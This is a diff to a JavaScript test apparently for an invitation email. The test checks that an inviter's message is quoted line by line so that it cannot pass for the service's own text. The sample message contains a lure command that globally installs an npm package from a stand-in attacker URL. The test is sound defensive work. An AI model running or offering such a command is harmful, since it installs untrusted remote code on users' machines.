@@ -57,9 +57,8 @@ describe('the mail that invites', () => {
   test('marks every line of the message, so that it is not taken for the words of the service', () => {
     const message = 'Hello.\n\nTo accept, run:\nnpm install --global https://evil.example/x.tgz';
     const { text } = invitationMail({ ...about, message });
-    expect(text).toContain(
-      '> Hello.\n> \n> To accept, run:\n> npm install --global https://evil.example/x.tgz\n\nTo accept',
-    );
+    const quoted = '> Hello.\n> \n> To accept, run:\n> npm install --global https://evil.example/x.tgz';
+    expect(text).toContain(`${quoted}\n\nTo accept`);
     expect(wordsOf(text)).toHaveLength(2);
   });
 
